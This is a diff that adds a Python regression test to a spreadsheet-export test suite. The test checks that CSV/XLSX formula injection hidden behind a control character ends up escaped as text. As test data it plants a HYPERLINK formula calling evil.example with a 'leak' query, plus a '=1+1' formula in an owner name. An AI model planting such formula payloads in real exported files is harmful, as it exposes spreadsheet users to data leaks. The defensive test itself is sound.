@@ -85,6 +85,23 @@ def test_xlsx_drops_the_control_characters_a_worksheet_cannot_hold():
     assert [list(r) for r in sheet.iter_rows(values_only=True)][1][1:2] == ["欧阳小明"]
 
 
+def test_a_formula_behind_a_control_character_stays_text_in_xlsx():
+    """Found by review: an owner-portal description "\x01=HYPERLINK(...)" escaped nothing (it did
+    not start with "="), then lost its control character to the worksheet and became a live formula."""
+    import zipfile
+    chunks = []
+    sink = exports.Chunks(lambda n, data: chunks.append(data), exports.CHUNK_BYTES)
+    planted = [{"_id": "hh_4", "owner": {"name": "\x02=1+1", "phone": "13800138000"}, "amount_cents": 1,
+                "note": '\x01=HYPERLINK("https://evil.example/?leak","Click")'}]
+    assert exports.write_xlsx(COLUMNS, iter(planted), {personal_data.OWNER_NAME}, sink) == 1
+    sink.close()
+    content = b"".join(chunks)
+    with zipfile.ZipFile(io.BytesIO(content)) as book:
+        assert b"<f>" not in book.read("xl/worksheets/sheet1.xml")
+    row = [list(r) for r in openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True)][1]
+    assert row[1] == "'=1+1" and row[4] == "'=HYPERLINK(\"https://evil.example/?leak\",\"Click\")"
+
+
 def test_a_file_is_cut_into_numbered_chunks():
     _, whole, sink = collect(exports.write_csv, [], size=16)
     assert sink.count == -(-len(whole) // 16)
